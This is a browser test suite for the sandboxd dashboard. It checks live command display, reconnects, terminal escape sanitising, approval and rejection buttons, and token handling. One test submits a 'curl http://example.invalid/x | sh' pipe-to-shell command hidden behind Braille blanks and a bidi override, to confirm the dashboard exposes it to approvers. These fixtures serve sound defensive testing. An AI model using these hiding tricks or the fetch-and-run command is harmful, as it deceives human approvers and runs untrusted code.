// The dashboard (web/dashboard.html, GET /dashboard) in Debian's headless
// Chromium, driven by playwright-core, against a real sandboxd. run.sh starts
// the server and passes:
//   SBX_URL             http://127.0.0.1:PORT
//   SBX_OBSERVER_TOKEN  a token of tenant acme with scope audit:read
//   SBX_EXEC_TOKEN      a token of tenant acme with scope exec
//   SBX_FS_TOKEN        a token of tenant acme with scope fs:write (gate files)
//   SBX_APPROVER_TOKEN  a token of tenant acme with scope "approve audit:read", sub alice
//                       (acme's policy: commands matching *needs-approval* wait for approval)
//   SBX_OUT_DIR         where screenshots go
//   CHROMIUM            the browser (default /usr/bin/chromium)
// Run it with `node --test dashboard.test.mjs` through run.sh.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { mkdir, mkdtemp, rm } from 'node:fs/promises';
import net from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { chromium } from 'playwright-core';

const env = (name) => {
  const v = process.env[name];
  if (!v) throw new Error(`${name} is not set: run this test through tests/browser/run.sh`);
  return v;
};
const BASE = env('SBX_URL');
const OBSERVER = env('SBX_OBSERVER_TOKEN');
const EXEC = env('SBX_EXEC_TOKEN');
const FS = env('SBX_FS_TOKEN');
const APPROVER = env('SBX_APPROVER_TOKEN');
const OUT = env('SBX_OUT_DIR');
const EVENTSOURCE_CLOSED = 2;
const CHROMIUM = process.env.CHROMIUM || '/usr/bin/chromium';

// The page talks to sandboxd through this TCP relay, so that the test can cut
// its connections (a dropped network) and let them back.
class Relay {
  constructor(target) {
    this.target = new URL(target);
    this.sockets = new Set();
    this.down = false;
  }
  async start() {
    this.server = net.createServer((c) => this.accept(c));
    await new Promise((resolve) => this.server.listen(0, '127.0.0.1', resolve));
    this.url = `http://127.0.0.1:${this.server.address().port}`;
  }
  accept(c) {
    if (this.down) { c.destroy(); return; }
    const u = net.connect(Number(this.target.port), this.target.hostname);
    const drop = () => { c.destroy(); u.destroy(); this.sockets.delete(c); this.sockets.delete(u); };
    for (const s of [c, u]) { this.sockets.add(s); s.on('error', drop); s.on('close', drop); }
    c.pipe(u);
    u.pipe(c);
  }
  cut() {
    this.down = true;
    for (const s of this.sockets) s.destroy();
    this.sockets.clear();
  }
  restore() { this.down = false; }
  async stop() {
    this.cut();
    await new Promise((resolve) => this.server.close(resolve));
  }
}

let relay, URL_;     // URL_: where the page is loaded from (the relay)
let browser, context, page;
const requests = [];      // every request the page made: { url, headers }
const pageErrors = [];    // uncaught exceptions in the page
const cspErrors = [];     // Content-Security-Policy violations
let profileDir;

// Start a command through the API (as a gateway would); resolves with the ShellResult.
function startExec(id, command) {
  return fetch(`${BASE}/exec`, {
    method: 'POST',
    headers: { Authorization: `Bearer ${EXEC}`, 'Content-Type': 'application/json' },
    body: JSON.stringify({ id, command, timeout_s: 120 }),
  }).then(async (r) => {
    const body = await r.json();
    assert.equal(r.status, 200, `POST /exec ${id}: ${JSON.stringify(body)}`);
    return body;
  });
}

const running = (id) => `#running tbody tr[data-id="${id}"]`;
const finished = (id) => `#finished tbody tr[data-id="${id}"]`;
const connState = () => page.locator('#conn').getAttribute('data-state');

async function waitLive() {
  await page.waitForFunction(() => document.getElementById('conn').dataset.state === 'live');
}

before(async () => {
  await mkdir(OUT, { recursive: true });
  relay = new Relay(BASE);
  await relay.start();
  URL_ = relay.url;
  profileDir = await mkdtemp(path.join(tmpdir(), 'sandboxd-chromium-'));
  // launchPersistentContext: a fresh, empty --user-data-dir of our own.
  context = await chromium.launchPersistentContext(profileDir, {
    executablePath: CHROMIUM,
    headless: true,
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
           '--disable-background-networking', '--disable-component-update', '--disable-sync'],
    viewport: { width: 1400, height: 900 },
  });
  // Record the page's EventSources, so that a test can see whether one
  // was closed (and so can never reconnect) rather than wait and count.
  await context.addInitScript(() => {
    const Orig = window.EventSource;
    const all = [];
    Object.defineProperty(window, '__sbxEventSources', { value: all });
    window.EventSource = class extends Orig {
      constructor(url, init) { super(url, init); all.push(this); }
    };
  });
  browser = context.browser();
  page = context.pages()[0] || await context.newPage();
  page.setDefaultTimeout(20000);
  page.on('request', (req) => requests.push({ url: req.url(), headers: req.headers() }));
  page.on('pageerror', (err) => pageErrors.push(String(err)));
  page.on('console', (msg) => {
    if (/Content Security Policy/i.test(msg.text())) cspErrors.push(msg.text());
  });
});

after(async () => {
  if (context) await context.close();
  if (browser) await browser.close();
  if (profileDir) await rm(profileDir, { recursive: true, force: true });
  if (relay) await relay.stop();
});

test('GET /dashboard serves the page', async () => {
  const resp = await page.goto(`${URL_}/dashboard`);
  assert.equal(resp.status(), 200);
  assert.match(resp.headers()['content-type'], /^text\/html/);
  assert.equal(await page.title(), 'sandboxd dashboard');
  assert.equal(await page.locator('#token').getAttribute('type'), 'password');
  assert.equal(await connState(), 'idle');
  // No other site may frame it (the approval buttons under a decoy).
  assert.equal(resp.headers()['x-frame-options'], 'DENY');
  assert.match(resp.headers()['content-security-policy'], /frame-ancestors 'none'/);
});

test('an observer token connects, and is kept in sessionStorage only', async () => {
  await page.fill('#token', OBSERVER);
  await page.click('#connect');
  await waitLive();
  assert.equal(await page.evaluate(() => sessionStorage.getItem('sandboxd.dashboard.token')), OBSERVER);
  assert.equal(await page.evaluate(() => localStorage.length), 0);
  assert.equal(await page.inputValue('#token'), '', 'the input is cleared');
  assert.ok(!page.url().includes(OBSERVER), 'no token in the page URL');
  assert.match(await page.textContent('#identity'), /tenant acme .*audit:read/);
});

let firstRun;
test('a command shows as running, with a ticking elapsed time, bytes and its last line', async () => {
  firstRun = startExec('browser-run-1',
    'echo starting; i=0; while [ $i -lt 8 ]; do i=$((i+1)); echo "tick $i"; sleep 0.5; done; echo oops >&2; exit 3');
  const row = page.locator(running('browser-run-1'));
  await row.waitFor();
  assert.match(await row.locator('td').nth(1).textContent(), /echo starting/);
  assert.equal(await row.locator('td').nth(2).textContent(), 'default');
  // The elapsed time changes while it runs.
  const first = await row.locator('.elapsed').textContent();
  await page.waitForFunction(
    ([sel, t0]) => {
      const e = document.querySelector(sel + ' .elapsed');
      return e && e.textContent !== t0 && e.textContent !== '–';
    }, [running('browser-run-1'), first]);
  // A heartbeat brought bytes and the last line.
  await page.waitForFunction((sel) => /tick \d/.test(document.querySelector(sel + ' .tail')?.textContent || ''),
    running('browser-run-1'));
  assert.match(await row.locator('.stdout').textContent(), /\d+ B/);
  const later = await row.locator('.elapsed').textContent();
  assert.notEqual(later, first, 'elapsed ticks');
  await page.screenshot({ path: path.join(OUT, 'dashboard-running.png'), fullPage: true });
});

test('then it moves to finished with its exit code and duration', async () => {
  const res = await firstRun;
  assert.equal(res.exit_code, 3, JSON.stringify(res));
  const row = page.locator(finished('browser-run-1'));
  await row.waitFor();
  await page.locator(running('browser-run-1')).waitFor({ state: 'detached' });
  const code = row.locator('.exit [data-code]');
  assert.equal(await code.textContent(), '3');
  assert.match(await code.getAttribute('class'), /exit-bad/);
  assert.match(await row.locator('.duration').textContent(), /^\d+(\.\d)? s$/);
  assert.equal(await row.locator('.flags').textContent(), '');
});

test('it stays live across a dropped connection', async () => {
  relay.cut();
  await page.waitForFunction(() => document.getElementById('conn').dataset.state === 'reconnecting');
  // Runs and ends entirely while the page is cut off.
  const r = await startExec('browser-offline-1', 'echo while you were away');
  assert.equal(r.exit_code, 0);
  relay.restore();
  await waitLive();
  const row = page.locator(finished('browser-offline-1'));
  await row.waitFor();
  assert.equal(await row.locator('.exit [data-code]').textContent(), '0');
  assert.match(await row.locator('.exit [data-code]').getAttribute('class'), /exit-ok/);
  // And new commands still arrive live.
  const second = startExec('browser-run-2', 'sleep 1.5; echo done');
  await page.locator(running('browser-run-2')).waitFor();
  await second;
  await page.locator(finished('browser-run-2')).waitFor();
});

test('a reload rebuilds the state from the API with the token from sessionStorage', async () => {
  await page.reload();
  await waitLive();
  const row = page.locator(finished('browser-run-1'));
  await row.waitFor();
  assert.equal(await row.locator('.exit [data-code]').textContent(), '3');
  assert.match(await row.locator('td').nth(1).textContent(), /echo starting/);
  await page.locator(finished('browser-offline-1')).waitFor();
});

test('a cancelled command is flagged', async () => {
  const long = startExec('browser-long', 'echo sleeping; sleep 60');
  const row = page.locator(running('browser-long'));
  await row.waitFor();
  await page.waitForFunction((sel) => document.querySelector(sel + ' .tail')?.textContent === 'sleeping',
    running('browser-long'));
  // The audit table has the first command by now (polled every 5 s).
  await page.waitForFunction(() => [...document.querySelectorAll('#audit td.target')]
    .some((td) => td.textContent.includes('echo starting')), null, { timeout: 20000 });
  await page.screenshot({ path: path.join(OUT, 'dashboard.png'), fullPage: true });
  const c = await fetch(`${BASE}/exec/browser-long/cancel`, { method: 'POST', headers: { Authorization: `Bearer ${EXEC}` } });
  assert.equal(c.status, 202);
  const res = await long;
  assert.equal(res.cancelled, true);
  const frow = page.locator(finished('browser-long'));
  await frow.waitFor();
  assert.match(await frow.locator('.flags').textContent(), /cancelled/);
  assert.match(await frow.locator('.exit [data-code]').getAttribute('class'), /exit-warn/);
});

test('audit records show, and the observer reads can be shown too', async () => {
  const rows = page.locator('#audit tbody tr');
  assert.ok(await rows.count() > 0);
  assert.ok(await rows.count() <= 20);
  const routes = await page.locator('#audit tbody tr td:nth-child(3)').allTextContents();
  assert.ok(routes.includes('/exec'), `routes: ${routes}`);
  assert.ok(!routes.includes('/audit'), 'observer reads hidden by default');
  await page.uncheck('#audit-hide-reads');
  const all = await page.locator('#audit tbody tr td:nth-child(3)').allTextContents();
  assert.ok(all.includes('/audit') || all.includes('/execs'), `routes: ${all}`);
  await page.check('#audit-hide-reads');
});

// ---------- the detail view: one command's output and result ----------
// Commands gated on a file the test writes (PUT /fs/write), so that the
// test, not the clock, decides when they end.
const gated = (gate) => `i=0; while [ ! -e /workspace/${gate} ]; do echo line$i; ` +
  `if [ $((i % 4)) -eq 0 ]; then echo warn$i >&2; fi; i=$((i+1)); sleep 0.2; done; echo done`;
async function openGate(name) {
  const r = await fetch(`${BASE}/fs/write?path=${encodeURIComponent('/workspace/' + name)}`, {
    method: 'PUT', headers: { Authorization: `Bearer ${FS}` }, body: 'go',
  });
  assert.ok(r.ok, `PUT /fs/write ${name}: ${r.status} ${await r.text()}`);
}
// What the detail view shows of one stream (its pieces, joined).
const shown = (stream) => page.evaluate((s) =>
  [...document.querySelectorAll(`#detail-output [data-stream=${s}]`)].map((e) => e.textContent).join(''), stream);
// The numbers of the lineN lines shown, in order (after the reconnect marker, with after=true).
const shownLines = (after = false) => page.evaluate((afterMarker) => {
  let nodes = [...document.getElementById('detail-output').children];
  if (afterMarker) nodes = nodes.slice(nodes.findIndex((n) => n.dataset.marker) + 1);
  const t = nodes.filter((n) => n.dataset.stream === 'stdout').map((n) => n.textContent).join('');
  return [...t.matchAll(/^line(\d+)$/gm)].map((m) => Number(m[1]));
}, after);
async function waitLineAtLeast(k, after = false) {
  await page.waitForFunction(([k, afterMarker]) => {
    let nodes = [...document.getElementById('detail-output').children];
    if (afterMarker) {
      const i = nodes.findIndex((n) => n.dataset.marker);
      if (i < 0) return false;
      nodes = nodes.slice(i + 1);
    }
    const t = nodes.filter((n) => n.dataset.stream === 'stdout').map((n) => n.textContent).join('');
    return [...t.matchAll(/^line(\d+)$/gm)].some((m) => Number(m[1]) >= k);
  }, [k, after], { timeout: 30000 });
}
const detailState = (state) => page.waitForFunction(
  (s) => document.getElementById('detail-state').dataset.state === s, state, { timeout: 30000 });
// The page's EventSources of one exec (recorded by the init script): their readyStates.
const execStreams = (id) => page.evaluate((id) => window.__sbxEventSources
  .filter((e) => new URL(e.url).pathname === `/exec/${id}/events`).map((e) => e.readyState), id);
function consecutive(nums, what) {
  for (let i = 1; i < nums.length; i++)
    assert.equal(nums[i], nums[i - 1] + 1, `${what}: line${nums[i - 1]} then line${nums[i]} (${nums.join(',')})`);
}

test('a running command opens in a detail view that follows its output live, then shows its result', async () => {
  await waitLive();
  const run = startExec('browser-gated', gated('.go-gated'));
  const row = page.locator(running('browser-gated'));
  await row.waitFor();
  await row.click();
  await page.locator('#detail').waitFor({ state: 'visible' });
  assert.equal(await page.textContent('#detail-id'), 'browser-gated');
  assert.match(await page.textContent('#detail-command'), /while \[ ! -e \/workspace\/\.go-gated \]/);
  assert.equal(await page.getAttribute('#detail-state', 'data-state'), 'running');
  await page.waitForFunction(() => document.getElementById('detail-conn').dataset.state === 'live');
  // Lines arrive while the view is open: some line, then three more after it.
  await waitLineAtLeast(0);
  const seen = await shownLines();
  await waitLineAtLeast(Math.max(...seen) + 3);
  consecutive(await shownLines(), 'live output');
  // stderr is there too, and looks different.
  await page.waitForFunction(() => /warn\d+/.test(
    [...document.querySelectorAll('#detail-output [data-stream=stderr]')].map((e) => e.textContent).join('')),
  null, { timeout: 30000 });
  const colors = await page.evaluate(() => ['stdout', 'stderr'].map((s) =>
    getComputedStyle(document.querySelector(`#detail-output [data-stream=${s}]`)).color));
  assert.notEqual(colors[0], colors[1], 'stderr is visibly distinct');
  assert.equal(await page.getAttribute('#detail-state', 'data-state'), 'running');
  await page.screenshot({ path: path.join(OUT, 'dashboard-detail-running.png') });

  await openGate('.go-gated');
  const res = await run;
  assert.equal(res.exit_code, 0, JSON.stringify(res));
  await detailState('exited');
  assert.equal(await page.textContent('#detail-result .exit-code'), '0');
  assert.equal(await page.textContent('#detail-result .flags'), 'none');
  assert.equal(await page.textContent('#detail-result .stdout-bytes'), `${res.stdout_bytes} bytes`);
  assert.equal(await page.textContent('#detail-result .stderr-bytes'), `${res.stderr_bytes} bytes`);
  assert.match(await page.textContent('#detail-result .duration'), /^\d+(\.\d)? s$/);
  // All of it, once, in order: exactly the command's output.
  assert.equal(await shown('stdout'), res.stdout);
  assert.equal(await shown('stderr'), res.stderr);
  assert.match(res.stdout, /\ndone\n$/);
  // Ended: its EventSource is closed (no reconnect to an ended command).
  assert.deepEqual(await execStreams('browser-gated'), [EVENTSOURCE_CLOSED]);
  assert.equal(await page.getAttribute('#detail-conn', 'data-state'), 'idle');
  await page.screenshot({ path: path.join(OUT, 'dashboard-detail.png') });
  await page.click('#detail-close');
  await page.locator('#detail').waitFor({ state: 'hidden' });
});

test('a terminal\'s output shows as text: escape sequences dropped, controls visible, no markup', async () => {
  await waitLive();
  // A background command on a pseudo-terminal (issue 17): colours, a window
  // title, a bidi override, a bell and some markup, then it waits.
  const r = await fetch(`${BASE}/exec`, {
    method: 'POST',
    headers: { Authorization: `Bearer ${EXEC}`, 'Content-Type': 'application/json' },
    body: JSON.stringify({
      id: 'browser-tty', tty: true, background: true, timeout_s: 120,
      command: "printf '\\033]0;evil title\\007\\033[31mred\\033[0m <b>bold</b> \\342\\200\\256rev\\a\\n'; " +
        'while [ ! -e /workspace/.go-tty ]; do sleep 0.1; done',
    }),
  });
  assert.equal(r.status, 202, await r.text());
  const row = page.locator(running('browser-tty'));
  await row.waitFor();
  await row.click();
  await page.locator('#detail').waitFor({ state: 'visible' });
  await openGate('.go-tty');
  await detailState('exited');
  const text = await shown('stdout');
  assert.equal(text, 'red <b>bold</b> \u27e6U+202E RLO\u27e7rev\u27e6U+0007 BEL\u27e7\n');
  assert.equal(await page.evaluate(() => document.querySelectorAll('#detail-output b').length), 0);
  assert.notEqual(await page.title(), 'evil title');
  await page.click('#detail-close');
  await page.locator('#detail').waitFor({ state: 'hidden' });
});

test('a finished command opens (from the keyboard) with its result', async () => {
  const res = await startExec('browser-done', 'echo out1; echo err1 >&2; echo out2; exit 7');
  assert.equal(res.exit_code, 7);
  const row = page.locator(finished('browser-done'));
  await row.waitFor();
  await row.focus();
  await page.keyboard.press('Enter');
  await page.locator('#detail').waitFor({ state: 'visible' });
  await detailState('exited');
  assert.equal(await page.textContent('#detail-id'), 'browser-done');
  assert.match(await page.textContent('#detail-command'), /echo out1/);
  assert.equal(await page.textContent('#detail-result .exit-code'), '7');
  assert.match(await page.getAttribute('#detail-state', 'class'), /exit-bad/);
  assert.equal(await shown('stdout'), 'out1\nout2\n');
  assert.equal(await shown('stderr'), 'err1\n');
  assert.equal(await page.textContent('#detail-result .stdout-bytes'), '10 bytes');
  assert.equal(await page.textContent('#detail-result .stderr-bytes'), '5 bytes');
  // start + exit, then closed by the page: one EventSource, never reopened.
  assert.deepEqual(await execStreams('browser-done'), [EVENTSOURCE_CLOSED]);
  assert.equal(requests.filter((r) => new URL(r.url).pathname === '/exec/browser-done/events').length, 1);
  await page.keyboard.press('Escape');
  await page.locator('#detail').waitFor({ state: 'hidden' });
  assert.equal(await page.evaluate(() => document.activeElement.dataset.id), 'browser-done', 'focus back on the row');
});

test('across a dropped connection both streams resume: nothing shown twice, nothing lost', async () => {
  await waitLive();
  const run = startExec('browser-cut', gated('.go-cut'));
  const across = startExec('browser-across', 'while [ ! -e /workspace/.go-across ]; do sleep 0.1; done; echo across');
  await page.locator(running('browser-across')).waitFor();
  const row = page.locator(running('browser-cut'));
  await row.waitFor();
  await row.click();
  await page.waitForFunction(() => document.getElementById('detail-conn').dataset.state === 'live');
  await waitLineAtLeast(0);
  await waitLineAtLeast(Math.max(...await shownLines()) + 2);

  relay.cut();
  await page.waitForFunction(() => document.getElementById('conn').dataset.state === 'reconnecting' &&
    document.getElementById('detail-conn').dataset.state === 'reconnecting', null, { timeout: 30000 });
  // While the page is cut off: one command ends, another runs start to end.
  await openGate('.go-across');
  assert.equal((await across).exit_code, 0);
  assert.equal((await startExec('browser-offline-2', 'echo while you were away')).exit_code, 0);
  relay.restore();
  await page.waitForFunction(() => document.getElementById('conn').dataset.state === 'live' &&
    document.getElementById('detail-conn').dataset.state === 'live', null, { timeout: 30000 });

  // The lists: each of them once, as finished.
  for (const id of ['browser-across', 'browser-offline-2']) {
    await page.locator(finished(id)).waitFor();
    assert.equal(await page.locator(finished(id)).count(), 1, `${id} once in finished`);
    assert.equal(await page.locator(running(id)).count(), 0, `${id} not running`);
  }
  assert.equal(await page.locator(running('browser-cut')).count(), 1);
  // The detail view: says where output is missing, then follows again.
  await page.locator('#detail-output [data-marker]').waitFor();
  const before = await shownLines();
  await waitLineAtLeast(Math.max(...before) + 2, true);
  const all = await shownLines();
  for (let i = 1; i < all.length; i++) assert.ok(all[i] > all[i - 1], `a line shown twice or out of order: ${all}`);
  consecutive(await shownLines(true), 'output after the reconnect');

  await openGate('.go-cut');
  const res = await run;
  assert.equal(res.exit_code, 0);
  await detailState('exited');
  // The result fills the hole: every line once, in order.
  assert.equal(await shown('stdout'), res.stdout);
  assert.equal(await shown('stderr'), res.stderr);
  consecutive([...res.stdout.matchAll(/^line(\d+)$/gm)].map((m) => Number(m[1])), 'result');
  assert.equal(await page.locator('#detail-output [data-marker]').count(), 0);
  assert.match(await page.textContent('#detail-output-note'), /from the result/);
  // Its EventSource reconnected once by itself, then closed on exit.
  assert.deepEqual(await execStreams('browser-cut'), [EVENTSOURCE_CLOSED]);
  await page.keyboard.press('Escape');
  await page.locator(finished('browser-cut')).waitFor();
  assert.equal(await page.locator(finished('browser-cut')).count(), 1);
  assert.equal(await page.locator(running('browser-cut')).count(), 0);
  assert.equal(await connState(), 'live');
});

// POST /exec as a gateway would, answered whatever the status.
async function postExec(id, command) {
  const r = await fetch(`${BASE}/exec`, {
    method: 'POST',
    headers: { Authorization: `Bearer ${EXEC}`, 'Content-Type': 'application/json' },
    body: JSON.stringify({ id, command, timeout_s: 60 }),
  });
  return { status: r.status, body: await r.json() };
}

const pendingRow = (id) => `#pending tbody tr[data-id="${id}"]`;

test('a command waiting for approval shows, and the approver\'s buttons approve and reject it', async () => {
  // The observer (no approve scope) sees it wait, with no buttons.
  const first = postExec('browser-approve-1', 'echo needs-approval-1');
  const row = page.locator(pendingRow('browser-approve-1'));
  await row.waitFor();
  assert.match(await row.locator('td').nth(1).textContent(), /needs-approval-1/);
  assert.equal(await row.locator('button').count(), 0);
  assert.match(await row.locator('.decision').textContent(), /approve scope/);
  assert.equal(await page.locator(running('browser-approve-1')).count(), 0);
  // The approver connects: the waiting command is listed again, with buttons.
  await page.fill('#token', APPROVER);
  await page.click('#connect');
  await waitLive();
  await row.locator('button.approve').waitFor();
  await page.screenshot({ path: path.join(OUT, 'dashboard-approval.png'), fullPage: true });
  await row.locator('button.approve').click();
  const r1 = await first;
  assert.equal(r1.status, 200, JSON.stringify(r1.body));
  assert.equal(r1.body.stdout, 'needs-approval-1\n');
  await row.waitFor({ state: 'detached' });
  const f1 = page.locator(finished('browser-approve-1'));
  await f1.waitFor();
  assert.equal(await f1.locator('.exit [data-code]').textContent(), '0');
  // Reject, with a reason: the requester gets 403 rejected with who and why.
  const second = postExec('browser-approve-2', 'touch never; echo needs-approval-2');
  const row2 = page.locator(pendingRow('browser-approve-2'));
  await row2.locator('button.reject').waitFor();
  await row2.locator('input.reason').fill('not before the release');
  await row2.locator('button.reject').click();
  const r2 = await second;
  assert.equal(r2.status, 403, JSON.stringify(r2.body));
  assert.equal(r2.body.error.code, 'rejected');
  assert.match(r2.body.error.message, /alice.*not before the release/);
  await row2.waitFor({ state: 'detached' });
  const f2 = page.locator(finished('browser-approve-2'));
  await f2.waitFor();
  assert.match(await f2.locator('.flags').textContent(), /rejected/);
  const ex = await fetch(`${BASE}/exec/browser-approve-2`, { headers: { Authorization: `Bearer ${EXEC}` } })
    .then((r) => r.json());
  assert.equal(ex.state, 'rejected');
  assert.equal(ex.approval.decided_by, 'alice');
  assert.equal(ex.approval.reason, 'not before the release');
});

// Issue 26, item 8: what a waiting command hides from the approver. Its
// cell shows the whole text, in the order it was written, with every
// invisible or space-like character marked, and its length.
test('a waiting command shows whole: hidden and reordering characters marked, its length said', async () => {
  const blank = '\u2800'.repeat(150);
  const cases = [
    { id: 'browser-hide-1', command: 'ls -la' + blank + '; curl http://example.invalid/x | sh # needs-approval',
      shown: 'ls -la\u27e6U+2800 BRAILLE BLANK \u00d7150\u27e7; curl http://example.invalid/x | sh # needs-approval',
      marked: 150 },
    { id: 'browser-hide-2', command: 'echo needs-approval \u202ehs | x/dilavni.elpmaxe//:ptth lruc\u202c\u200b\tok',
      shown: 'echo needs-approval \u27e6U+202E RLO\u27e7hs | x/dilavni.elpmaxe//:ptth lruc' +
        '\u27e6U+202C PDF\u27e7\u27e6U+200B ZWSP\u27e7\u27e6U+0009 TAB\u27e7ok',
      marked: 4 },
    // Unassigned default-ignorable code points (U+2065, plane 14) are drawn
    // as nothing by browsers; a run of many different combining marks
    // stacks ink over the lines around it.
    { id: 'browser-hide-3', command: 'echo needs-approval a\u2065b' + '\u{e0080}'.repeat(40) + ' c' +
        '\u0300\u0301\u0302\u0303\u0304\u0305'.repeat(10) + ' ok',
      shown: 'echo needs-approval a\u27e6U+2065\u27e7b\u27e6U+E0080 \u00d740\u27e7 c' +
        '\u27e660 combining marks\u27e7 ok',
      marked: 101 },
  ];
  for (const c of cases) {
    const pending = postExec(c.id, c.command);
    const row = page.locator(pendingRow(c.id));
    await row.locator('button.reject').waitFor();
    const cell = row.locator('td.command');
    assert.equal(await cell.locator('.tenant-text').textContent(), c.shown);
    const marks = await cell.locator('.hidden-mark').allTextContents();
    assert.ok(marks.length >= 1 && marks.every((m) => /^\u27e6(U\+[0-9A-F]{4}|\d+ combining marks)/.test(m)), String(marks));
    const chars = [...c.command].length;
    const bytes = Buffer.byteLength(c.command, 'utf8');
    assert.equal(await cell.locator('.text-length').textContent(),
      `${chars} characters, ${bytes} bytes, ${c.marked} invisible or space-like (marked)`);
    // Wrapped, not cut off: the text fits its box (no hidden overflow, no ellipsis).
    const fit = await cell.locator('.tenant-text').evaluate((e) => ({
      w: e.scrollWidth <= e.clientWidth + 1, h: e.scrollHeight <= e.clientHeight + 1,
      ws: getComputedStyle(e).whiteSpace, bidi: getComputedStyle(e).unicodeBidi }));
    assert.deepEqual(fit, { w: true, h: true, ws: 'pre-wrap', bidi: 'bidi-override' });
    await page.screenshot({ path: path.join(OUT, `dashboard-${c.id}.png`), fullPage: true });
    await row.locator('button.reject').click();
    const r = await pending;
    assert.equal(r.status, 403, JSON.stringify(r.body));
    await row.waitFor({ state: 'detached' });
  }
});

test('a token without audit:read says so instead of failing', async () => {
  await page.fill('#token', EXEC);
  await page.click('#connect');
  await waitLive();
  await page.locator('#audit-notice').waitFor({ state: 'visible' });
  assert.match(await page.textContent('#audit-notice'), /needs the audit:read scope/);
  // The exec token may watch and list (scope exec): the finished list is there.
  await page.locator(finished('browser-run-1')).waitFor();
});

test('a rejected token shows as such, and is not retried forever', async () => {
  const [h, p, sig] = OBSERVER.split('.');
  await page.fill('#token', [h, p, [...sig].reverse().join('')].join('.'));
  await page.click('#connect');
  await page.waitForFunction(() => document.getElementById('conn').dataset.state === 'error');
  assert.match(await page.textContent('#conn'), /rejected/);
  const streams = () => requests.filter((r) => new URL(r.url).pathname === '/events').length;
  const n = streams();
  await page.waitForTimeout(2500); // longer than the server's retry: 2000
  assert.equal(streams(), n, 'no reconnect with a rejected token');
  assert.equal(await connState(), 'error');
});

test('forget drops the token and the data', async () => {
  await page.click('#forget');
  assert.equal(await page.evaluate(() => sessionStorage.getItem('sandboxd.dashboard.token')), null);
  assert.equal(await connState(), 'idle');
  assert.equal(await page.locator('#finished tbody tr[data-id]').count(), 0);
  assert.equal(await page.locator('#audit tbody tr[data-id]').count(), 0);
  await page.reload();
  assert.equal(await connState(), 'idle');
});

test('the token is in no URL but the event streams\', and nothing left the origin', async () => {
  const origin = new URL(URL_).origin;
  let sse = 0, execSse = 0, api = 0;
  for (const { url, headers } of requests) {
    const u = new URL(url);
    assert.equal(u.origin, origin, `request to another origin: ${url}`);
    const carries = url.includes(OBSERVER) || url.includes(EXEC) || url.includes(APPROVER) ||
      url.includes(encodeURIComponent(OBSERVER));
    if (u.pathname === '/events') {
      sse++;
      assert.ok(u.searchParams.get('access_token'), 'the event stream carries access_token');
      assert.deepEqual([...u.searchParams.keys()], ['access_token']);
    } else if (/^\/exec\/[^/]+\/events$/.test(u.pathname)) {
      execSse++;
      assert.ok(u.searchParams.get('access_token'), 'the exec event stream carries access_token');
      assert.deepEqual([...u.searchParams.keys()], ['output', 'access_token']);
    } else {
      assert.ok(!carries && !u.searchParams.has('access_token'), `token in a URL: ${u.pathname}`);
      if (u.pathname !== '/dashboard') {
        api++;
        assert.match(headers.authorization || '', /^Bearer /, `no Authorization on ${u.pathname}`);
      }
    }
    assert.ok(!headers.referer, `Referer sent on ${u.pathname}: ${headers.referer}`);
  }
  assert.ok(sse >= 2, `event stream opened ${sse} times`);
  assert.ok(execSse >= 3, `exec event streams opened ${execSse} times`);
  assert.ok(api >= 3, `API requests: ${api}`);
  assert.deepEqual(pageErrors, []);
  assert.deepEqual(cspErrors, []);
});
